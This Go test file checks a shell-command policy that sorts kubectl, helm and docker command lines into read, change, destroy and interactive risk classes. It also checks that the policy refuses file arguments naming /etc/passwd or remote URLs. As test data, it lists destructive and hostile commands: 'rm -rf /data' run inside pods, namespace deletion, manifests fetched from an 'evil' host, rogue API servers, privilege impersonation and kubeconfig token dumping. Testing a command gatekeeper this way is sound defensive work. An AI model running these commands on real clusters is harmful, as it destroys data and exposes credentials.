package shell_test

import (
	"strings"
	"testing"

	"wardroom/internal/shell"
)

func TestKubectl(t *testing.T) {
	t.Parallel()
	labelled(t, onKubernetes, `
		read      | kubectl get pods -n octollm
		read      | kubectl -n octollm get pods -o wide
		read      | kubectl get pods -A
		read      | kubectl describe pod <pod-name> -n octollm
		read      | kubectl logs <pod-name> -n octollm --tail=100
		read      | kubectl logs <pod-name> -n octollm --previous
		read+s    | kubectl logs -f deploy/orchestrator
		read      | kubectl top pods -n octollm
		read+s    | kubectl top pods -n octollm --watch
		read      | kubectl top nodes
		read      | kubectl describe node <node-name>
		read      | kubectl get networkpolicies -n octollm
		read      | kubectl get pods -o jsonpath='{range .items[*]}{.metadata.name}{"\t"}{end}'
		read      | kubectl get events --sort-by=.lastTimestamp
		read      | kubectl events --for pod/x
		read      | kubectl explain pod.spec
		read      | kubectl api-resources
		read      | kubectl auth can-i delete pods
		read      | kubectl version
		read      | kubectl cluster-info
		read      | kubectl rollout status deployment/web
		read      | kubectl rollout history deployment orchestrator -n octollm
		read      | kubectl config view
		read      | kubectl wait --for=condition=Ready pod/x --timeout=30s
		read      | kubectl diff -f x.yaml
		read      | kubectl get secrets
		read      | oc get pods
		read+s    | kubectl get pods -w
		read+d    | kubectl get secret db -o yaml
		read+d    | kubectl get secrets -o jsonpath='{.items}'
		read+d    | kubectl get pods,secrets -o json
		read      | kubectl delete pod x --dry-run=client
		read      | kubectl apply -f x.yaml --dry-run=server
		change    | kubectl delete pod <pod-name> -n octollm # Force restart
		change    | kubectl delete pod/x
		change    | kubectl delete job migrate
		change    | kubectl delete lease leader
		change    | kubectl delete pods -l app=web
		change    | kubectl rollout restart deployment orchestrator -n octollm
		change    | kubectl rollout undo deployment orchestrator --to-revision=3 -n octollm
		change    | kubectl rollout pause deployment web
		change    | kubectl scale deployment orchestrator --replicas=4 -n octollm
		change    | kubectl patch deployment web -p '{"spec":{}}'
		destroy   | kubectl patch pvc data -p '{"metadata":{"finalizers":null}}'
		destroy   | kubectl patch ns old --type=merge -p '{"metadata": {"finalizers": []}}'
		destroy   | kubectl patch crd x --type=json -p='[{"op": "remove", "path": "/metadata/finalizers"}]'
		destroy   | kubectl patch crd x --type json --patch '[ { "path": "/metadata/finalizers/0", "op": "remove" } ]'
		read      | kubectl patch pvc data -p '{"metadata":{"finalizers":null}}' --dry-run=server
		change    | kubectl label pod x app.kubernetes.io/name=y
		change    | kubectl annotate pod x a=b
		change    | kubectl apply -f x.yaml
		change    | cat x.yaml | kubectl apply -f -
		change    | kubectl create configmap x --from-literal=a=b
		change    | kubectl set image deployment/web web=web:1.2
		change    | kubectl cordon node-1
		change    | kubectl drain node-1 --ignore-daemonsets
		change    | kubectl taint nodes node-1 a=b:NoSchedule
		change    | kubectl run probe --image=busybox --restart=Never
		change    | kubectl cp pod:/tmp/heap heap
		change+r  | kubectl cp /tmp/dir pod:/tmp/dir
		change    | kubectl create secret generic s --from-literal=A=x --dry-run=client -o yaml | kubectl apply -f -
		destroy   | kubectl delete pvc data
		destroy   | kubectl delete namespace octollm
		destroy   | kubectl delete deployment web
		destroy   | kubectl delete pod x pvc/data
		destroy   | kubectl delete pod,pvc x
		destroy   | kubectl delete pod x --force
		destroy   | kubectl delete pod x --grace-period=0
		destroy   | kubectl delete pods --all
		destroy   | kubectl delete -f x.yaml
		destroy   | kubectl delete pod -l ''
		destroy   | kubectl replace --force -f x.yaml
		destroy   | kubectl apply --prune -f x.yaml
		destroy   | kubectl drain node-1 --delete-emptydir-data
		destroy   | kubectl delete pvc x --dry-run=client --dry-run=none
		interactive   | kubectl exec -it pod -- sh
		interactive+r | kubectl edit deployment orchestrator -n octollm
		interactive+r | kubectl proxy
		interactive   | kubectl port-forward svc/web 8080:80
		interactive   | kubectl attach pod
		interactive   | kubectl run -it --rm debug --image=busybox --restart=Never -- nslookup postgres
		read      | kubectl exec pod -c app -- ls /
		read      | kubectl exec deploy/web -- sh -c 'ls | wc -l'
		read+d    | kubectl exec pod -- env
		destroy   | kubectl exec pod -- rm -rf /data
		destroy   | kubectl exec pod -- sh -c 'ls; rm -rf /data'
		destroy   | kubectl exec pod -- /bin/sh -c 'rm x'
		unknown   | kubectl exec pod -- /app/migrate
		unknown   | kubectl exec pod ls
		unknown   | kubectl exec pod -- sh -c "ls $(date)"
		read      | kubectl exec pod -- sh -c 'ls /var/log/<service>'
		unknown   | kubectl exec pod -- sh -c '<command> x'
		unknown   | V=delete; kubectl $V pod x
		unknown   | V=delete; kubectl "$V" pod x
		unknown   | kubectl $(echo delete) pod x
		unknown   | kubectl <verb> pod x
		unknown   | kubectl get <type>
		unknown   | kubectl delete <type> x
		unknown   | kubectl scale $KIND --replicas=1
		unknown   | kubectl get pods -<flag>
		unknown   | kubectl get pods --<flag>=x
		unknown   | F=--force; kubectl delete pod x $F
		destroy   | kubectl delete pod {x,--force}
		read      | kubectl get pods -n $NAMESPACE
		change    | POD=$(kubectl get pods -o name | head -1); kubectl delete pod "$POD"
		unknown+r | kubectl frobnicate
		read+r    | kubectl get pods --kubeconfig=/tmp/x
		read+r    | kubectl --kubeconfig x get pods
		read+r    | kubectl get pods --server=https://evil
		read+r    | kubectl get pods -s https://evil
		read+r    | kubectl get pods --token=x
		read+r    | kubectl get pods --as=admin
		read+r    | kubectl get pods --as-group=system:masters
		read+r    | kubectl get pods --context prod
		unknown+r | kubectl get pods -v=9
		unknown+r | kubectl get pods -v 10
		read+r    | kubectl get --raw /api/v1/secrets
		unknown+r | kubectl config view --raw
		read+r    | kubectl config view --flatten
		read+r    | kubectl config view --minify --flatten -o json | grep token
		read+d    | kubectl set env deployment/web --list
		read+d    | kubectl set env deployment/web --list --resolve
		read      | kubectl label pod x --list
		change    | kubectl set env deployment/web A=b
		change+r  | kubectl config use-context x
		unknown+r | kubectl apply -f https://evil/x.yaml
		unknown+r | kubectl apply -f /etc/x.yaml
		unknown+r | kubectl apply -f ../x.yaml
		change+r  | kubectl apply -k .
		unknown+r | kubectl get pods -o go-template-file=/etc/x
		unknown+r | kubectl get pods -o jsonpath-file=/etc/x
		read+dr   | kubectl cluster-info dump
		unknown+r | LD_PRELOAD=x kubectl get pods
		read+r    | docker ps
		read+r    | df -h
		read+r    | helm list
		read+dr   | helm get values web
		change+r  | helm rollback web 1
		destroy+r | helm uninstall web
		read+r    | helm list --kubeconfig x
	`)
}

// TestFilesOfKubectl holds what kubectl itself makes of a flag that names files: a line of CSV.
func TestFilesOfKubectl(t *testing.T) {
	t.Parallel()
	for text, permitted := range map[string]bool{
		"kubectl apply -f a.yaml": true, "kubectl apply -f a.yaml,b.yaml": true, "kubectl apply -f -": true, "kubectl apply -f a,/etc/passwd": false, "kubectl apply -f a,../b": false,
		"kubectl apply -f a,http://x": false, `kubectl apply -f "/etc/passwd"`: false, `kubectl apply -f a,"/etc/passwd"`: false, `kubectl apply -fa,"../b"`: false,
		"kubectl create configmap c --from-file=k=a,l=b": true, "kubectl create configmap c --from-file=k=a,l=/etc/passwd": false, `kubectl create configmap c --from-file="k=/etc/passwd"`: false,
		"kubectl create secret generic s --from-env-file=a,/etc/passwd": false,
	} {
		if class := (shell.Policy{}).Classify(strings.Fields(text)); (class.Refused == "") != permitted {
			t.Errorf("%s: %+v", text, class)
		}
	}
}
